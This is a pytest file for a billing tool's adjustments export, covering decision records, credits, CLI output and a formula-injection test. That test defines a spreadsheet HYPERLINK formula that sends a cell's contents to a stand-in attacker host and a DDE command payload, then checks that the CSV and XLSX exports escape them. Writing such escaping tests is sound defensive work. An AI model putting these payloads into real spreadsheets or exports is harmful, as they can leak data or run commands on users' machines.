"""The adjustments export: agreement and invoice changes implied by the latest decisions."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from recon_helpers.audit import status as resolution
from recon_helpers.audit.decisions import record_decision
from recon_helpers.audit.ledger import Ledger
from recon_helpers.billing.adjustments import ADJUSTMENT_COLUMNS, adjustments, write_adjustments
from recon_helpers.cli import main
from recon_helpers.core.period import Period
from tests.workspace_builder import b, build, d, p

PERIOD = Period.parse("2026-10")
HOSTILE_NAME = '=HYPERLINK("http://attacker.test/?leak="&A1,"Invoice")'
DDE = "+cmd|' /C calc'!A0"


def keys(rec) -> dict[str, str]:  # type: ignore[no-untyped-def]
    return {f"{r.kind}|{r.client_id}": r.key for r in rec.findings.itertuples(index=False)}


def test_export_lists_the_changes_of_the_latest_decisions(demo_month, demo_ws) -> None:
    rec, ws = demo_month[1], demo_ws
    k = keys(rec)

    def decide(key: str, action: str, note: str = "", **kw: str) -> None:
        resolution.resolve(ws, PERIOD, k[key], action, note, "Alice Martin", rec=rec, **kw)

    decide("under_billed|LAKESIDE11", "adjust_agreement", new_quantity="3.4")
    decide("unbilled_service|IRONWOOD08", "adjust_agreement", "add Huntress", new_quantity="10")
    decide("invoice_mismatch|KEYSTONE10", "adjust_invoice", new_quantity="10")
    decide("price_mismatch|LAKESIDE11", "adjust_invoice", "rebill at the agreed 22.00")
    decide("over_billed|HARBORVI07", "credit_client", "5 devices retired in September")
    decide("under_billed|GRANITEC06", "adjust_agreement", new_quantity="12")
    decide("under_billed|GRANITEC06", "accept", "seats are a trial until November")  # withdraws
    decide("negative_margin|MAPLESTR12", "escalate", "ask the account manager")
    table = adjustments(ws, PERIOD)
    assert tuple(table.columns) == ADJUSTMENT_COLUMNS
    got = [(r.client_id, r.product_id, r.change_type, r.current_quantity, r.new_quantity,
            r.unit_price, r.amount) for r in table.itertuples(index=False)]
    D = Decimal
    assert got == [
        ("HARBORVI07", "RMM-DEV", "credit", D(30), D(25), D("3.5"), D("-17.50")),
        ("IRONWOOD08", "MDR-HUNT", "agreement_quantity", D(0), D(10), D(5), D("50.00")),
        ("KEYSTONE10", "M365-BS", "invoice_adjustment", D(8), D(10), D("12.5"), D("25.00")),
        ("LAKESIDE11", "BKP-TB", "agreement_quantity", D(3), D("3.4"), D(45), D("18.00")),
        ("LAKESIDE11", "M365-BP", "invoice_adjustment", D(11), D(11), D(22), D("22.00")),
    ]
    row = table.iloc[3]
    assert (row["client_name"], row["description"], row["currency"]) == (
        "Lakeside Veterinary", "Cloud backup storage per TB", "USD")
    assert row["reason"] == "under_billed"  # no note: the kind of discrepancy
    assert table.iloc[0]["reason"] == "5 devices retired in September"
    assert table.iloc[0]["discrepancy_key"] == k["over_billed|HARBORVI07"]
    assert set(table["decided_by"]) == {"Alice Martin"}
    assert all(ts.startswith("20") for ts in table["decided_at"])


def test_bare_decisions_are_completed_from_the_month_and_agreements_keep_the_latest(
        demo_month, demo_ws) -> None:
    rec, ws = demo_month[1], demo_ws
    k = keys(rec)
    with Ledger(ws.ledger_path) as ledger:  # recorded without resolve(): no snapshot
        record_decision(ledger, PERIOD, k["billed_not_delivered|JUNIPERS09"], "credit_client",
                        "", "Bob Okafor")
        for qty in ("11", "12"):
            record_decision(ledger, PERIOD, f"manual|{qty}", "adjust_agreement", "", "Bob Okafor",
                            new_quantity=qty, kind="under_billed", client_id="GRANITEC06",
                            product_id="M365-BP", agreement_qty="10", unit_price="22.00",
                            currency="USD", description="Microsoft 365 Business Premium")
    table = adjustments(ws, PERIOD, rec)
    credit = table[table["change_type"].eq("credit")].iloc[0]
    assert (credit["client_name"], credit["description"]) == ("Juniper Schools",
                                                              "SentinelOne Control endpoint")
    assert (credit["current_quantity"], credit["new_quantity"], credit["amount"]) == (
        Decimal(19), Decimal(0), Decimal("-114.00"))
    agreement = table[table["change_type"].eq("agreement_quantity")]
    assert agreement[["new_quantity", "amount", "discrepancy_key"]].values.tolist() == [
        [Decimal(12), Decimal("44.00"), "manual|12"]]


def hostile_workspace(root: Path):  # type: ignore[no-untyped-def]
    return build(
        root,
        delivered=[d("acme", "agents", "12"), d("acme", "devices", "8")],
        promised=[p("acme", "EDR", "10", "5", client_name=HOSTILE_NAME, description="=1+2"),
                  p("acme", "RMM", "10", "3.5", client_name=HOSTILE_NAME, description="@SUM(A1)")],
        billed=[b("acme", "EDR", "10", "5"), b("acme", "RMM", "10", "3.5")],
        products=[("huntress", "agents", "EDR", "1"), ("huntress", "devices", "RMM", "1")],
        clients_map=[("huntress", "acme", "Acme", "acme")],
    )


def test_formula_injection_round_trip_through_csv_and_xlsx(tmp_path: Path) -> None:
    ws = hostile_workspace(tmp_path / "data")
    from recon_helpers.reconcile.run import reconcile_period

    rec = reconcile_period(ws, PERIOD)
    k = keys(rec)
    resolution.resolve(ws, PERIOD, k["under_billed|acme"], "adjust_agreement", DDE, "@alice",
                       new_quantity="12", rec=rec)
    resolution.resolve(ws, PERIOD, k["over_billed|acme"], "credit_client", "-2+3", "\tbob",
                       rec=rec)
    csv_path, table = write_adjustments(ws, PERIOD, tmp_path / "adjustments.csv", rec)
    assert table["client_name"].tolist() == [HOSTILE_NAME] * 2  # the frame keeps the data
    with csv_path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == list(ADJUSTMENT_COLUMNS)
    by_type = {r["change_type"]: r for r in rows}
    agree, credit = by_type["agreement_quantity"], by_type["credit"]
    assert agree["client_name"] == "'" + HOSTILE_NAME
    assert (agree["description"], agree["reason"], agree["decided_by"]) == (
        "'=1+2", "'" + DDE, "'@alice")
    assert (credit["description"], credit["reason"], credit["decided_by"]) == (
        "'@SUM(A1)", "'-2+3", "'\tbob")
    assert (agree["current_quantity"], agree["new_quantity"], agree["amount"]) == (
        "10", "12", "10.00")
    assert (credit["amount"], credit["unit_price"]) == ("-7.00", "3.5")  # numbers untouched

    xlsx_path, _ = write_adjustments(ws, PERIOD, tmp_path / "adjustments.xlsx", rec)
    sheet = openpyxl.load_workbook(xlsx_path)["adjustments"]
    header = [c.value for c in sheet[1]]
    assert header == list(ADJUSTMENT_COLUMNS)
    cells = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2)]
    for row in cells:
        assert all(c.data_type != "f" for c in row.values())  # never a formula
        assert row["client_name"].value == "'" + HOSTILE_NAME
        assert row["client_name"].data_type == "s"
        assert row["amount"].data_type == "n"
    values = {row["change_type"].value: row for row in cells}
    assert Decimal(str(values["credit"]["amount"].value)) == Decimal("-7.00")
    assert Decimal(str(values["agreement_quantity"]["new_quantity"].value)) == 12
    assert values["agreement_quantity"]["reason"].value == "'" + DDE


def test_cli_adjustments_writes_the_file(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    ws = hostile_workspace(tmp_path / "data")
    base = ["adjustments", "--workspace", str(ws.root), "--period", str(PERIOD)]
    out = tmp_path / "none.csv"
    assert main([*base, "--out", str(out)]) == 0  # no ledger yet: header only
    assert out.read_text(encoding="utf-8").splitlines() == [",".join(ADJUSTMENT_COLUMNS)]
    assert not ws.ledger_path.exists()
    resolution.resolve(ws, PERIOD, keys_for(ws)["over_billed|acme"], "credit_client", "",
                       "Alice Martin")
    out = tmp_path / "adjustments.xlsx"
    assert main([*base, "--out", str(out)]) == 0
    text = capsys.readouterr().out
    assert "1 change(s)" in text and "credit" in text and str(out) in text
    assert openpyxl.load_workbook(out)["adjustments"].max_row == 2
    assert main([*base, "--out", str(tmp_path / "adjustments.txt")]) == 2


def keys_for(ws) -> dict[str, str]:  # type: ignore[no-untyped-def]
    from recon_helpers.reconcile.run import reconcile_period

    return keys(reconcile_period(ws, PERIOD))
